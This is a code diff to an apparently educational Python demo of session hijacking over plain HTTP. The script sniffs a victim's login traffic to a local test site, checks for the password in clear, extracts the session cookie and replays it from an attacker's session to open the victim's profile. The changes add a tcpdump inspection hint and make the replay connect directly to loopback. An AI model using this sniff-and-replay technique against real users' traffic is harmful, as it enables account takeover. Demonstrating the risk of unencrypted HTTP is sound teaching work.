@@ -69,7 +69,8 @@ def over_plain_http() -> str:
                 f"     and opens their profile ({profile.status_code})"
             )
             captured = capture.captured()
-        print(f"  => captured: {captured.summary()}, in {capture.pcap.relative_to(BASE_DIR)}")
+        print(f"  => captured: {captured.summary()}")
+        print(f"     (saved: `tcpdump -A -r {capture.pcap.relative_to(BASE_DIR)}` shows it, or Wireshark)")
         print(f"     requests in clear: {', '.join(captured.requests_in_clear)}")
         password_seen = any(f"password={PASSWORD}".encode() in packet.payload for packet in captured.packets)
         print(f"     the login form's password in clear: {password_seen}")
@@ -83,7 +84,9 @@ def over_plain_http() -> str:
             return "no cookie found"
 
         # The attacker's own client, with nothing of the victim's but the header read off the wire.
-        replay = requests.get(
+        attacker = requests.Session()
+        attacker.trust_env = False  # straight to loopback, as the browsers go, never through a proxy
+        replay = attacker.get(
             f"{site.url}/accounts/profile/", headers={"Cookie": cookie}, allow_redirects=False, timeout=10
         )
         as_victim = replay.status_code == 200 and victim_name in replay.text
